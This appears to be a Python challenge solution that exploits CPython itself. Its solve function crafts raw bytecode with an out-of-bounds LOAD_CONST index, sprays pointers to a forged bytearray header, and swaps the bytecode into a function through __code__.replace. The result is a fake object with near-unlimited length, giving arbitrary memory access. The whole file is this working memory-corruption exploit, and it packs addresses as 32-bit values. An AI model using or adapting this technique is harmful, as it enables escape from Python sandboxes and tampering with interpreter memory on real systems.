# Bytecode that loads a constant far behind the tuple of constants makes an object of forged bytes.
import opcode
import struct


def victim():
    return None


def solve(n):
    op = opcode.opmap
    fake = struct.pack("<IIIIIIII", 0x3FFFFFFF, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 1, 1, 0, 0)
    pointers = struct.pack("<I", id(fake) + 16) * 200000
    constants = (None,)
    offset = (id(pointers) - id(constants)) // 4 + 50
    code = bytearray([op["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([op["EXTENDED_ARG"], (offset >> shift) & 255])
    code += bytes([op["LOAD_CONST"], offset & 255, op["RETURN_VALUE"], 0])
    victim.__code__ = victim.__code__.replace(co_code=bytes(code), co_consts=constants)
    return len(victim())
